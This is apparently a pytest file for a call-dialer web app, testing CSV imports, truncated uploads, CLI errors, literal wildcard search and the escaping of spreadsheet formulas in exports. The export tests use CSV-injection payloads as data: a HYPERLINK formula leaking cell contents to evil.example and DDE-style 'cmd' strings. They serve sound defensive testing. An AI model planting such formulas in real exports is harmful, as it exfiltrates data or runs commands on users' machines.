"""Issue 11, imports and exports: quoted values arrive whole, unreadable rows are reported and never
stored, a cut-short upload is refused, exports can not carry spreadsheet formulas, and the CLI import
fails in one line without leaving an empty campaign behind."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from aiohttp import FormData
from sqlalchemy import func, select

from dialer.db.models import Application, Campaign
from tests.web.conftest import Web, seed_call
from tests.web.test_auth import _dialer
from tests.web.test_imports_api import wait_job

APPS = "application_number,applicant_name,phone,status\n"


def _form(content: bytes) -> FormData:
    form = FormData()
    form.add_field("file", content, filename="list.csv", content_type="text/csv")
    return form


async def _import(web: Web, content: bytes) -> tuple[dict[str, Any], dict[int, str]]:
    r = await web.admin("POST", "/applications/import", data=_form(content))
    assert r.status == 202, await r.text()
    job = await wait_job(web, await r.json())
    r = await web.admin("GET", f"/imports/{job['id']}/rejected")
    return job, {row["line"]: row["reason"] for row in (await r.json())["items"]}


async def test_quoted_values_are_stored_whole_and_broken_rows_are_reported(web: Web) -> None:
    data = (
        APPS
        + 'A-1,"Ivanov ""Jr"", Ivan",+79161234567,ready\n'  # line 2: quotes and a comma inside
        + 'A-2,"Petrov"x,+79161234568,ready\n'  # line 3: broken quoting
        + "A-3,Sidorov,+79161234569,ready,surplus\n"  # line 4: one value too many
    ).encode() + b"A-4,Null\x00,+79161234570,ready\n"  # line 5: NUL byte
    job, rejected = await _import(web, data)
    assert job["state"] == "done" and (job["created"], job["rejected"]) == (1, 3), job
    assert set(rejected) == {3, 4, 5}
    assert "not valid CSV" in rejected[3] and "5 values" in rejected[4] and "NUL" in rejected[5]
    r = await web.admin("GET", "/applications/A-1")
    assert (await r.json())["applicant_name"] == 'Ivanov "Jr", Ivan'
    async with web.service.sessions() as s:
        numbers = set((await s.execute(select(Application.number))).scalars())
    assert numbers == {"A-1"}  # nothing half-stored


async def test_mixed_encodings_are_reported(web: Web) -> None:
    data = (APPS + "A-1,Иванов,+79161234567,ready\n").encode() + "A-2,Петров,+79161234568,ready\n".encode(
        "cp1251"
    )
    job, rejected = await _import(web, data)
    assert job["created"] == 1 and "not UTF-8" in rejected[3]


async def test_a_cut_short_upload_is_refused(web: Web) -> None:
    body = (APPS + "".join(f"A-{i},Name {i},+7916123{i:04d},ready\n" for i in range(200))).encode()
    b = "BoUnDaRy"
    head = f'--{b}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n'.encode()
    full = head + body + f"\r\n--{b}--\r\n".encode()
    for cut in (full[: len(full) // 2], full[:-4]):
        r = await web.admin(
            "POST",
            "/applications/import",
            data=cut,
            headers={"Content-Type": f"multipart/form-data; boundary={b}"},
        )
        assert r.status == 400, (r.status, await r.text())
        assert "cut short" in (await r.json())["error"]
    async with web.service.sessions() as s:
        assert (await s.execute(select(func.count()).select_from(Application))).scalar_one() == 0
    r = await web.admin(
        "POST",
        "/applications/import",
        data=full,
        headers={"Content-Type": f"multipart/form-data; boundary={b}"},
    )
    assert r.status == 202
    assert (await wait_job(web, await r.json()))["created"] == 200


async def test_exports_neutralise_spreadsheet_formulas(web: Web) -> None:
    await seed_call(web.service, number="A-1")
    async with web.service.sessions() as s:
        app = (await s.execute(select(Application).where(Application.number == "A-1"))).scalar_one()
        app.applicant_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        await s.commit()
    r = await web.admin("GET", "/attempts/export")
    assert r.status == 200
    rows = list(csv.DictReader(io.StringIO(await r.text())))
    assert rows[0]["applicant_name"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[0]["phone"] == "+79161234567"  # a phone number is a number, left as it is
    # the rejected-rows report quotes what the file said: neutralised too
    job, _ = await _import(web, (APPS + "A-9,x,@SUM(1+1)*cmd,ready\n").encode())
    r = await web.admin("GET", f"/imports/{job['id']}/rejected.csv")
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(await r.text()))]
    assert reasons and all(not x.startswith(("=", "+", "-", "@")) for x in reasons)


def test_csv_cells_are_neutralised_but_numbers_kept() -> None:
    from dialer.web.csvsafe import safe_cell

    for evil in ("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(evil) == "'" + evil
    for fine in ("+79161234567", "-5", "-1.5", "+7 (916) 123-45-67", "Ivanov", "", 42, None):
        assert safe_cell(fine) == fine


async def test_cli_import_failure_is_one_line_and_leaves_no_campaign(db_url: str, tmp_path: Path) -> None:
    from dialer.db.engine import make_engine, make_sessionmaker

    bad = tmp_path / "bad.csv"
    bad.write_text("phone;name\n+79161234567;x\n")  # no application_number column
    r = _dialer(db_url, "campaign", "create", "spring", "--contacts", str(bad))
    assert r.returncode == 1 and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert "missing column(s): application_number" in r.stderr and "Traceback" not in r.stderr
    huge = tmp_path / "huge.csv"
    huge.write_text(
        'phone,application_number,name\n+79161234567,A-1,"' + "x" * 200_000 + '"\n+79161234568,A-2,ok\n'
    )
    r = _dialer(db_url, "campaign", "create", "spring", "--contacts", str(huge))
    assert r.returncode == 0, r.stderr
    assert "line 2" in r.stdout and "field larger than field limit" in r.stdout
    engine = make_engine(db_url)
    try:
        async with make_sessionmaker(engine)() as s:
            names = list((await s.execute(select(Campaign.name))).scalars())
    finally:
        await engine.dispose()
    assert names == ["spring"]  # created once, by the run that could import


async def test_search_takes_percent_and_underscore_literally(web: Web) -> None:
    data = (APPS + "A-1,Ivanov,+79161234567,ready\nA_2,Pet%rov,+79161234568,ready\n").encode()
    job, _ = await _import(web, data)
    assert job["created"] == 2

    async def found(q: str) -> set[str]:
        r = await web.admin("GET", "/applications", params={"q": q})
        assert r.status == 200, await r.text()
        return {a["number"] for a in (await r.json())["items"]}

    assert await found("%") == {"A_2"}  # the one with a % in its name, not everything
    assert await found("_") == set()  # an underscore is an underscore, not "any one character"
    assert await found("A_") == {"A_2"}
    assert await found("Pet%r") == {"A_2"}
    assert await found("Iv") == {"A-1"}
    r = await web.admin("POST", "/dnc", json={"phones": ["+79161234567"]})
    assert r.status in (200, 201), await r.text()
    r = await web.admin("GET", "/dnc", params={"q": "%"})
    assert (await r.json())["total"] == 0
